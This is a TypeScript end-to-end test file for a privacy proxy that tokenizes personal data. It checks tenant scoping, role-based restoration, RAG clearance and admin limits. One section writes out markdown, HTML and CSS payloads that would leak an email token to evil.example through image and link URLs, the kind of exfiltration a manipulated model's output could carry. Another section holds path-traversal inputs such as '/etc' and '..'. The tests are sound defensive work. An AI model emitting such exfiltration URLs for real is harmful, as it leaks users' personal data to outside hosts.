// Tenants, roles and channels against the real `veil serve` process in api_key mode (issue 15,
// items 9 to 13): RAG clearance from the credential, caller-dependent policy rules re-resolved
// for the rehydrating caller, idempotency records per (tenant, identity), admin scoped to its
// tenant, and no raw value restored into a URL or markup context. One server, several keys.
import { mkdirSync, mkdtempSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { stringify } from 'yaml';
import { postJson, startVeil, settledLogs, type ServerProcess } from './support/server.js';

const dir = mkdtempSync(join(tmpdir(), 'veil-tenancy-e2e-'));
const ENV = { VEIL_SESSION_SECRET: '6b'.repeat(32), VEIL_ALLOW_EPHEMERAL_AUDIT: '1' };

/** One key per caller the scenarios need; keys are at least 16 characters. */
const KEYS = {
  acmeA: 'e2e-acme-a-0123456789abcdef',
  acmeB: 'e2e-acme-b-0123456789abcdef',
  platformOne: 'e2e-platform-1-0123456789ab',
  platformTwo: 'e2e-platform-2-0123456789ab',
  acmeAdmin: 'e2e-acme-admin-0123456789ab',
  acmeInternal: 'e2e-acme-internal-0123456789',
  acmeRestricted: 'e2e-acme-restricted-01234567',
  acmeSupervisor: 'e2e-acme-supervisor-0123456',
  acmeAgent: 'e2e-acme-agent-0123456789ab',
  platformAdmin: 'e2e-platform-admin-0123456789',
} as const;

const WORK_SCOPES = ['transform', 'rehydrate', 'rag', 'revoke', 'session'];

const CANARY_FILE = 'outside-canary-7f3e';

/** The policy directory (with a staging sub-directory and a link leading out of it). */
function policyDirectory(): string {
  const policies = join(dir, 'policies');
  const outside = join(dir, 'outside');
  mkdirSync(join(policies, 'staging'), { recursive: true });
  mkdirSync(outside);
  writeFileSync(join(outside, 'secret.yaml'), `name: [${CANARY_FILE}\n`);
  symlinkSync(outside, join(policies, 'escape'));
  writeFileSync(join(policies, 'default.yaml'), POLICY);
  writeFileSync(join(policies, 'roles.yaml'), ROLES_POLICY);
  writeFileSync(join(policies, 'staging', 'default.yaml'), POLICY.replace('version: "1"', 'version: "2"'));
  return policies;
}

const POLICY = `name: default
version: "1"
rules:
  - name: everything
    match: {}
    action: tokenize
`;

/** Emails restore in full for supervisors only; everyone else gets them masked. */
const ROLES_POLICY = `name: roles
version: "1"
rules:
  - {name: supervisor-email, match: {entity_type: email, caller_role: supervisor}, action: tokenize, restore_mode: full}
  - {name: email, match: {entity_type: email}, action: tokenize, restore_mode: masked}
  - {name: rest, match: {}, action: tokenize}
`;

function configFile(): string {
  const file = join(dir, 'veil.yaml');
  writeFileSync(
    file,
    stringify({
      auth: {
        mode: 'api_key',
        api_keys: [
          { key: KEYS.acmeA, identity: 'acme-app-a', tenant_id: 'acme', scopes: WORK_SCOPES },
          { key: KEYS.acmeB, identity: 'acme-app-b', tenant_id: 'acme', scopes: WORK_SCOPES },
          { key: KEYS.platformOne, identity: 'platform-1', scopes: ['transform', 'rehydrate'] },
          { key: KEYS.platformTwo, identity: 'platform-2', scopes: ['transform', 'rehydrate'] },
          { key: KEYS.acmeAdmin, identity: 'acme-admin', tenant_id: 'acme', scopes: ['admin'] },
          { key: KEYS.acmeInternal, identity: 'acme-internal', tenant_id: 'acme', scopes: ['rag'], access_level: 'internal' },
          { key: KEYS.acmeRestricted, identity: 'acme-restricted', tenant_id: 'acme', scopes: ['rag'], access_level: 'restricted' },
          { key: KEYS.acmeSupervisor, identity: 'acme-supervisor', tenant_id: 'acme', scopes: WORK_SCOPES, role: 'supervisor' },
          { key: KEYS.acmeAgent, identity: 'acme-agent', tenant_id: 'acme', scopes: WORK_SCOPES, role: 'agent' },
          { key: KEYS.platformAdmin, identity: 'platform-admin', scopes: ['admin'] },
        ],
      },
      policy: { directory: policyDirectory() },
      // URLs the model writes pass the output guard (issue 15 item 13: the exfiltration needs a
      // URL the guard lets through); the restore must then keep values out of them.
      output_protection: { exempt_types: ['url'] },
    }),
  );
  return file;
}

let server: ServerProcess;
beforeAll(async () => {
  server = await startVeil({ env: ENV, args: ['--config', configFile()] });
});
afterAll(async () => {
  await server.stop();
});

function as(key: string, extra: Record<string, string> = {}): Record<string, string> {
  return { 'x-api-key': key, ...extra };
}

async function postWithHeaders(path: string, body: unknown, headers: Record<string, string>): Promise<{ status: number; replayed: string | null; body: any }> {
  const response = await fetch(`${server.url}${path}`, { method: 'POST', headers: { 'content-type': 'application/json', ...headers }, body: JSON.stringify(body) });
  return { status: response.status, replayed: response.headers.get('idempotency-replayed'), body: await response.json() };
}

describe('idempotency records belong to one (tenant, identity)', () => {
  const EMAIL = 'idem.owner@example.org';

  it('a second identity of the same tenant with the same key runs its own request, never the first one\'s response', async () => {
    const body = { input: `write to ${EMAIL}` };
    const first = await postWithHeaders('/v1/transform', body, as(KEYS.acmeA, { 'idempotency-key': 'order-42' }));
    expect(first.status).toBe(200);
    expect(first.replayed).toBeNull();
    // Same tenant, other identity, same key and body: executes, is not a replay, gets its own session.
    const second = await postWithHeaders('/v1/transform', body, as(KEYS.acmeB, { 'idempotency-key': 'order-42' }));
    expect(second.status).toBe(200);
    expect(second.replayed).toBeNull();
    expect(second.body.session_state).not.toBe(first.body.session_state);
    // Each caller's own retry replays its own response.
    const retryA = await postWithHeaders('/v1/transform', body, as(KEYS.acmeA, { 'idempotency-key': 'order-42' }));
    expect(retryA.replayed).toBe('true');
    expect(retryA.body.session_state).toBe(first.body.session_state);
    const retryB = await postWithHeaders('/v1/transform', body, as(KEYS.acmeB, { 'idempotency-key': 'order-42' }));
    expect(retryB.replayed).toBe('true');
    expect(retryB.body.session_state).toBe(second.body.session_state);
    // A different body under the same key is B's own business, not a reuse of A's key.
    const other = await postWithHeaders('/v1/transform', { input: 'nothing here' }, as(KEYS.acmeB, { 'idempotency-key': 'order-43' }));
    expect(other.status).toBe(200);
    // And B's session works for B.
    const restored = await postJson(`${server.url}/v1/rehydrate`, { output: second.body.safe_text, session_state: second.body.session_state }, as(KEYS.acmeB));
    expect(restored.body.restored_text).toBe(`write to ${EMAIL}`);
  });

  it('two untenanted callers never share records', async () => {
    const body = { input: `cc ${EMAIL}` };
    const first = await postWithHeaders('/v1/transform', body, as(KEYS.platformOne, { 'idempotency-key': 'platform-key' }));
    const second = await postWithHeaders('/v1/transform', body, as(KEYS.platformTwo, { 'idempotency-key': 'platform-key' }));
    expect([first.status, second.status]).toEqual([200, 200]);
    expect(second.replayed).toBeNull();
    expect(second.body.session_state).not.toBe(first.body.session_state);
  });
});

describe('admin is scoped to its tenant', () => {
  const get = async (path: string, key: string): Promise<{ status: number; body: any; text: string }> => {
    const response = await fetch(`${server.url}${path}`, { headers: as(key) });
    const text = await response.text();
    let body: unknown;
    try {
      body = JSON.parse(text);
    } catch {
      body = undefined;
    }
    return { status: response.status, body, text };
  };

  it('refuses platform operations to a tenant admin with VEIL_SCOPE_DENIED and shows it only its tenant', async () => {
    for (const refused of [
      await get('/metrics', KEYS.acmeAdmin),
      await postJson(`${server.url}/v1/admin/policy/reload`, {}, as(KEYS.acmeAdmin)),
      await postJson(`${server.url}/v1/admin/policy/validate`, { directory: '' }, as(KEYS.acmeAdmin)),
    ]) {
      expect(refused.status).toBe(403);
      expect(refused.body.code).toBe('VEIL_SCOPE_DENIED');
    }
    const own = await get('/v1/diagnostics', KEYS.acmeAdmin);
    expect(own.status).toBe(200);
    expect(own.body).toMatchObject({ scope: 'tenant', tenant: 'acme' });
    expect(own.body.policies.map((policy: { name: string }) => policy.name)).toEqual(['default', 'roles']);
    expect(own.body).not.toHaveProperty('api_keys');
    expect(own.body).not.toHaveProperty('reloads');
    const inline = await postJson(`${server.url}/v1/admin/policy/validate`, { files: { 'default.yaml': POLICY, 'roles.yaml': ROLES_POLICY } }, as(KEYS.acmeAdmin));
    expect(inline.body).toEqual({ valid: true, errors: [], changes: [] });
    // The platform admin keeps the platform powers.
    expect((await get('/metrics', KEYS.platformAdmin)).status).toBe(200);
    expect((await postJson(`${server.url}/v1/admin/policy/reload`, {}, as(KEYS.platformAdmin))).body.reloaded).toBe(true);
    const full = await get('/v1/diagnostics', KEYS.platformAdmin);
    expect(full.body.scope).toBe('platform');
    expect(full.body.api_keys.count).toBe(Object.keys(KEYS).length);
  });

  it('validates only inside policy.directory', async () => {
    const staging = await postJson(`${server.url}/v1/admin/policy/validate`, { directory: 'staging' }, as(KEYS.platformAdmin));
    expect(staging.body).toEqual({
      valid: true,
      errors: [],
      changes: [
        { change: 'modified', policy: 'default', version: '2', previous_version: '1' },
        { change: 'removed', policy: 'roles', previous_version: '1' },
      ],
    });
    for (const directory of [join(dir, 'outside'), '/etc', '..', 'staging/../..', 'escape']) {
      const refused = await postJson(`${server.url}/v1/admin/policy/validate`, { directory }, as(KEYS.platformAdmin));
      expect(refused.status, directory).toBe(400);
      expect(refused.body.code).toBe('VEIL_VALIDATION_FAILED');
      expect(refused.text).not.toContain(CANARY_FILE);
    }
    expect(await settledLogs(server)).not.toContain(CANARY_FILE);
  });
});

describe('RAG clearance comes from the credential', () => {
  const SECRET_EMAIL = 'board.member@restricted.example';
  const PUBLIC_EMAIL = 'press.office@public.example';

  async function ingest(text: string, classification: string): Promise<{ safe_text: string; chunk_session_state: string }> {
    const response = await postJson(`${server.url}/v1/rag/ingest`, { text, corpus_id: 'kb', document_metadata: { classification } }, as(KEYS.acmeRestricted));
    expect(response.status).toBe(200);
    return response.body.chunks[0];
  }

  async function context(key: string, chunks: { safe_text: string; chunk_session_state: string }[], extra: Record<string, unknown> = {}): Promise<any> {
    const query = await postJson(`${server.url}/v1/rag/query`, { query: 'who do I contact?', corpus_id: 'kb' }, as(key));
    expect(query.status).toBe(200);
    const built = await postJson(
      `${server.url}/v1/rag/context`,
      { chunks: chunks.map((chunk) => chunk.safe_text), document_sessions: chunks.map((chunk) => chunk.chunk_session_state), session_state: query.body.session_state, corpus_id: 'kb', ...extra },
      as(key),
    );
    expect(built.status).toBe(200);
    return built.body;
  }

  it('filters restricted chunks for a key without clearance, whatever access_level the body claims', async () => {
    const secret = await ingest(`Escalations go to ${SECRET_EMAIL}.`, 'restricted');
    const open = await ingest(`Journalists write to ${PUBLIC_EMAIL}.`, 'public');
    for (const extra of [{}, { access_level: 'restricted' }, { access_level: 'public' }]) {
      const built = await context(KEYS.acmeA, [secret, open], extra);
      expect(built.chunks_filtered, JSON.stringify(extra)).toBe(1);
      expect(built.safe_chunks).toEqual([open.safe_text]);
    }
    // An internal key is still below restricted; a restricted key sees both, until it lowers itself.
    expect((await context(KEYS.acmeInternal, [secret, open])).chunks_filtered).toBe(1);
    expect((await context(KEYS.acmeRestricted, [secret, open])).chunks_filtered).toBeUndefined();
    expect((await context(KEYS.acmeRestricted, [secret, open], { access_level: 'internal' })).chunks_filtered).toBe(1);
  });

  it('never restores a chunk blob outside a context (the only route that checks clearance)', async () => {
    const secret = await ingest(`Escalations go to ${SECRET_EMAIL}.`, 'restricted');
    for (const key of [KEYS.acmeA, KEYS.acmeSupervisor]) {
      const direct = await postJson(`${server.url}/v1/rehydrate`, { output: secret.safe_text, session_state: secret.chunk_session_state }, as(key));
      expect(direct.status).toBe(410);
      expect(direct.text).not.toContain(SECRET_EMAIL);
    }
    const answer = await postJson(`${server.url}/v1/rag/answer`, { answer: secret.safe_text, session_state: secret.chunk_session_state }, as(KEYS.acmeRestricted));
    expect(answer.status).toBe(410);
  });

  it('restores a context built by a cleared caller only up to the answering caller\'s clearance', async () => {
    const secret = await ingest(`Escalations go to ${SECRET_EMAIL}.`, 'restricted');
    const open = await ingest(`Journalists write to ${PUBLIC_EMAIL}.`, 'public');
    const built = await context(KEYS.acmeRestricted, [secret, open]);
    const answer = `${built.safe_chunks[0]} ${built.safe_chunks[1]}`;
    const restore = (key: string, extra: Record<string, unknown> = {}) => postJson(`${server.url}/v1/rag/answer`, { answer, session_state: built.session_state, ...extra }, as(key));
    const cleared = await restore(KEYS.acmeRestricted);
    expect(cleared.body.restored_answer).toContain(SECRET_EMAIL);
    expect(cleared.body.restored_answer).toContain(PUBLIC_EMAIL);
    for (const [key, extra] of [[KEYS.acmeA, {}], [KEYS.acmeInternal, {}], [KEYS.acmeA, { access_level: 'restricted' }], [KEYS.acmeRestricted, { access_level: 'confidential' }]] as const) {
      const lower = await restore(key, extra);
      expect(lower.status).toBe(200);
      expect(lower.text).not.toContain(SECRET_EMAIL);
      expect(lower.body.restored_answer).toContain('[REDACTED]');
      // The public value is still restored for everyone.
      expect(lower.body.restored_answer).toContain(PUBLIC_EMAIL);
    }
  });
});

/** The SSE frames of a streaming response body. */
function sseFrames(text: string): Record<string, any>[] {
  return text
    .split('\n\n')
    .filter((block) => block.startsWith('data: '))
    .map((block) => JSON.parse(block.slice('data: '.length)) as Record<string, any>);
}

describe('caller-dependent policy rules are re-decided for the rehydrating caller', () => {
  const EMAIL = 'chief.officer@acme.example';
  const MASKED = '*****.*******@****.*******';

  it('a supervisor\'s transform restores in full for the supervisor and masked for an agent, on every restoring route', async () => {
    const transformed = await postJson(`${server.url}/v1/transform`, { input: `Escalate to ${EMAIL} now.`, policy: 'roles' }, as(KEYS.acmeSupervisor));
    expect(transformed.status).toBe(200);
    const { safe_text: safeText, session_state: sessionState } = transformed.body as { safe_text: string; session_state: string };
    const cases: [string, string][] = [
      [KEYS.acmeSupervisor, `Escalate to ${EMAIL} now.`],
      [KEYS.acmeAgent, `Escalate to ${MASKED} now.`],
    ];
    for (const [key, want] of cases) {
      const plain = await postJson(`${server.url}/v1/rehydrate`, { output: safeText, session_state: sessionState }, as(key));
      expect(plain.body.restored_text).toBe(want);
      const json = await postJson(`${server.url}/v1/rehydrate`, { output_json: { reply: safeText }, session_state: sessionState }, as(key));
      expect(json.body.restored_json).toEqual({ reply: want });
      const sse = await fetch(`${server.url}/v1/rehydrate/stream`, { method: 'POST', headers: { 'content-type': 'application/json', ...as(key) }, body: JSON.stringify({ output: safeText, session_state: sessionState }) });
      expect(sseFrames(await sse.text()).map((frame) => frame.restored_text ?? '').join('')).toBe(want);
      const cut = safeText.indexOf('{{') + 6;
      const lines = [{ session_state: sessionState }, { delta: safeText.slice(0, cut) }, { delta: safeText.slice(cut) }].map((line) => JSON.stringify(line)).join('\n');
      const incremental = await fetch(`${server.url}/v1/rehydrate/stream`, { method: 'POST', headers: { 'content-type': 'application/x-ndjson', ...as(key) }, body: `${lines}\n` });
      expect(sseFrames(await incremental.text()).map((frame) => frame.restored_text ?? '').join('')).toBe(want);
      const form = new FormData();
      form.append('session_state', sessionState);
      form.append('file', new Blob([safeText]), 'reply.txt');
      const file = await fetch(`${server.url}/v1/rehydrate/file`, { method: 'POST', headers: as(key), body: form });
      expect(await file.text()).toBe(want);
    }
  });

  it('rag/answer re-decides for the answering caller too', async () => {
    const ingested = await postJson(`${server.url}/v1/rag/ingest`, { text: `Owner: ${EMAIL}`, policy: 'roles', corpus_id: 'roles-kb', document_metadata: { classification: 'public' } }, as(KEYS.acmeSupervisor));
    const chunk = ingested.body.chunks[0];
    const query = await postJson(`${server.url}/v1/rag/query`, { query: 'who owns it?', policy: 'roles', corpus_id: 'roles-kb' }, as(KEYS.acmeSupervisor));
    const built = await postJson(
      `${server.url}/v1/rag/context`,
      { chunks: [chunk.safe_text], document_sessions: [chunk.chunk_session_state], session_state: query.body.session_state, corpus_id: 'roles-kb' },
      as(KEYS.acmeSupervisor),
    );
    expect(built.status).toBe(200);
    const answer = (key: string) => postJson(`${server.url}/v1/rag/answer`, { answer: built.body.safe_chunks[0], session_state: built.body.session_state }, as(key));
    expect((await answer(KEYS.acmeSupervisor)).body.restored_answer).toBe(`Owner: ${EMAIL}`);
    const agent = await answer(KEYS.acmeAgent);
    expect(agent.body.restored_answer).toBe(`Owner: ${MASKED}`);
    expect(agent.text).not.toContain(EMAIL);
  });
});

describe('no raw value is restored into a URL or markup', () => {
  const EMAIL = 'render.victim@example.org';
  const LABEL = '[email address]';

  /** The exfiltration shapes of threats.md 9 around `token`, and what each must restore to. */
  function attacks(token: string): { output: string; expected: string } {
    const shapes = [
      (t: string) => `![x](https://evil.example/p.png?d=${t})`,
      (t: string) => `[click](https://evil.example/?d=${t})`,
      (t: string) => `<img src="https://evil.example/p.png?d=${t}">`,
      (t: string) => `<IMG SRC=https://evil.example/?${t}>`,
      (t: string) => `<https://evil.example/?${t}>`,
      (t: string) => `[ref]: //evil.example/?d=${t}`,
      (t: string) => `<div style="background:url(//evil.example/?${t})">`,
      (t: string) => `see https://evil.example/?d=${t}`,
    ];
    return {
      output: `Hello ${token}.\n${shapes.map((shape) => shape(token)).join('\n')}\nBye ${token}.`,
      expected: `Hello ${EMAIL}.\n${shapes.map((shape) => shape(LABEL)).join('\n')}\nBye ${EMAIL}.`,
    };
  }

  it('holds on /v1/rehydrate, output_json, both stream modes and /v1/rehydrate/file', async () => {
    const made = await postJson(`${server.url}/v1/transform`, { input: `Contact ${EMAIL}` }, as(KEYS.acmeA));
    const token = /\{\{email:[^}]+\}\}/.exec(made.body.safe_text as string)![0];
    const sessionState = made.body.session_state as string;
    const { output, expected } = attacks(token);

    const plain = await postJson(`${server.url}/v1/rehydrate`, { output, session_state: sessionState }, as(KEYS.acmeA));
    expect(plain.body.restored_text).toBe(expected);

    const json = await postJson(`${server.url}/v1/rehydrate`, { output_json: { reply: output, image: `![x](https://evil.example/?${token})` }, session_state: sessionState }, as(KEYS.acmeA));
    expect(json.body.restored_json).toEqual({ reply: expected, image: `![x](https://evil.example/?${LABEL})` });

    const sse = await fetch(`${server.url}/v1/rehydrate/stream`, { method: 'POST', headers: { 'content-type': 'application/json', ...as(KEYS.acmeA) }, body: JSON.stringify({ output, session_state: sessionState }) });
    expect(sseFrames(await sse.text()).map((frame) => frame.restored_text ?? '').join('')).toBe(expected);

    // Deltas of 3 characters: each context opens deltas before its token, and tokens are split.
    const chars = Array.from(output);
    const deltas: string[] = [];
    for (let index = 0; index < chars.length; index += 3) deltas.push(chars.slice(index, index + 3).join(''));
    const body = [{ session_state: sessionState }, ...deltas.map((delta) => ({ delta }))].map((line) => JSON.stringify(line)).join('\n');
    const incremental = await fetch(`${server.url}/v1/rehydrate/stream`, { method: 'POST', headers: { 'content-type': 'application/x-ndjson', ...as(KEYS.acmeA) }, body: `${body}\n` });
    const frames = sseFrames(await incremental.text());
    expect(frames.map((frame) => frame.restored_text ?? '').join('')).toBe(expected);
    expect(frames.length).toBeGreaterThan(3);

    for (const [name, content] of [
      ['reply.md', output],
      ['reply.html', `<html><body><p>${token}</p><img src="https://evil.example/p.png?d=${token}"></body></html>`],
    ] as const) {
      const form = new FormData();
      form.append('session_state', sessionState);
      form.append('file', new Blob([content]), name);
      const file = await fetch(`${server.url}/v1/rehydrate/file`, { method: 'POST', headers: as(KEYS.acmeA), body: form });
      const restored = await file.text();
      expect(file.status).toBe(200);
      expect(restored).toBe(name.endsWith('.md') ? expected : `<html><body><p>${EMAIL}</p><img src="https://evil.example/p.png?d=${LABEL}"></body></html>`);
    }
  });

  it('holds on /v1/rag/answer', async () => {
    const ingested = await postJson(`${server.url}/v1/rag/ingest`, { text: `Reach ${EMAIL}.`, corpus_id: 'render-kb', document_metadata: { classification: 'public' } }, as(KEYS.acmeA));
    const chunk = ingested.body.chunks[0];
    const query = await postJson(`${server.url}/v1/rag/query`, { query: 'how to reach them?', corpus_id: 'render-kb' }, as(KEYS.acmeA));
    const built = await postJson(
      `${server.url}/v1/rag/context`,
      { chunks: [chunk.safe_text], document_sessions: [chunk.chunk_session_state], session_state: query.body.session_state, corpus_id: 'render-kb' },
      as(KEYS.acmeA),
    );
    const token = /\{\{email:[^}]+\}\}/.exec(built.body.safe_chunks[0] as string)![0];
    const { output, expected } = attacks(token);
    const answer = await postJson(`${server.url}/v1/rag/answer`, { answer: output, session_state: built.body.session_state }, as(KEYS.acmeA));
    expect(answer.body.restored_answer).toBe(expected);
  });
});
